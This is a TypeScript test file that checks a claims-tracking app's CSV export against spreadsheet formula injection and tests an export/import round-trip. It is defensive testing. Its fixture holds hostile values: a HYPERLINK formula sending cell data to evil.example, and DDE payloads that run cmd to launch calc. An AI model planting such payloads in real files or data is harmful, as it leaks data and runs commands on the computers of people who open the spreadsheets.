import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, test } from 'vitest';
import { CLAIM_COLUMNS } from '@/lib/claims/input/columns';
import { exportChunks } from '@/lib/server/csv/export';
import { createTestClaims, migrateTestDatabase } from '@/tests/support/test-database';

// Names, titles and quotes a hostile editor or source could give, each one a spreadsheet formula.
const HOSTILE = {
  metric_name: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  claimant: "+cmd|' /C calc'!A0",
  claimant_description: "@SUM(1+1)*cmd|' /C calc'!A0",
  title: "-2+3+cmd|' /C calc'!A0",
  publisher: "'=already quoted",
  byline: '@reporter',
  quote: '=1+1 people were killed, the office said.',
  notes: '-- a note that begins with dashes',
};

async function exportText(format: 'csv' | 'json'): Promise<string> {
  let text = '';
  for await (const chunk of exportChunks(format, 'hostile-killed')) text += chunk;
  return text;
}

/** The CLI on another database, as an operator runs it. */
function tally(databaseFile: string, args: string[]): string {
  const result = spawnSync(
    'node_modules/.bin/tsx',
    ['--conditions=react-server', 'lib/cli/main.ts', ...args],
    { env: { ...process.env, DATABASE_URL: `file:${databaseFile}` }, encoding: 'utf8' },
  );
  if (result.status !== 0) throw new Error(`tally ${args.join(' ')}: ${result.stderr}`);
  return result.stdout;
}

beforeAll(async () => {
  await migrateTestDatabase();
  await createTestClaims(
    [1, 2].map((day) => ({
      ...HOSTILE,
      topic: 'hostile',
      metric: 'hostile-killed',
      value: String(1000 + day),
      as_of: `2025-05-0${day}`,
      claimant_kind: 'ngo',
      url: `https://example.org/${day}`,
    })),
  );
});

describe('spreadsheet formulas in the CSV export', () => {
  test('every text cell that would start a formula is written with a leading quote', async () => {
    const rows = parse(await exportText('csv'), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(2);
    for (const row of rows) {
      for (const [column, text] of Object.entries(HOSTILE)) expect(row[column]).toBe(`'${text}`);
      for (const column of CLAIM_COLUMNS) expect(row[column]).not.toMatch(/^[=+\-@\t\r]/);
      expect(row.value).toMatch(/^100\d$/);
    }
  });

  test('the JSON export keeps the texts as they are', async () => {
    const rows = JSON.parse(await exportText('json')) as Record<string, unknown>[];
    expect(rows[0]).toMatchObject(HOSTILE);
  });

  test('export → import into an empty database → export gives the same bytes', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'tally-formula-'));
    const first = path.join(dir, 'first.csv');
    const second = path.join(dir, 'second.csv');
    const text = await exportText('csv');
    writeFileSync(first, text);
    const database = path.join(dir, 'empty.db');
    expect(tally(database, ['import', first])).toContain('2 inserted');
    tally(database, ['export', '--metric', 'hostile-killed', '--out', second]);
    // Had the import kept the quote, the second export would quote it again: "''=…".
    expect(readFileSync(second, 'utf8')).toBe(text);
  }, 60_000);
});
